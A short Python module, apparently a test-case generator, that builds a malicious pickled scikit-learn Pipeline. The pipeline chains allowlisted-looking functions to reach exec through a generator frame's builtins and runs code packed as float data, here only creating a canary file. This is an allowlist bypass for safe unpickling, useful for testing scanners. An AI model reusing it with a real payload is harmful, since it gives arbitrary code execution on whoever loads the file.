"""A pipeline of allowed functions takes exec from the frame of a generator and calls it."""

from __future__ import annotations

import operator
import pickle
from functools import partial
from typing import Any

import numpy as np
import pandas as pd
from scipy.signal import periodogram
from sklearn.pipeline import Pipeline
from sklearn.preprocessing import FunctionTransformer


def build(canary: str) -> bytes:
    code = f"open({canary!r}, 'w').close()#".encode()
    code += b"#" * (-len(code) % 8)
    functions: list[Any] = [
        pd.DataFrame,
        operator.methodcaller("items"),
        operator.attrgetter("gi_frame.f_builtins"),
        operator.itemgetter("exec"),
        partial(periodogram, np.frombuffer(code, "f8").copy(), 1.0, "boxcar", None),
    ]
    steps = [(str(n), FunctionTransformer(function)) for n, function in enumerate(functions)]
    return pickle.dumps(Pipeline(steps), 4)
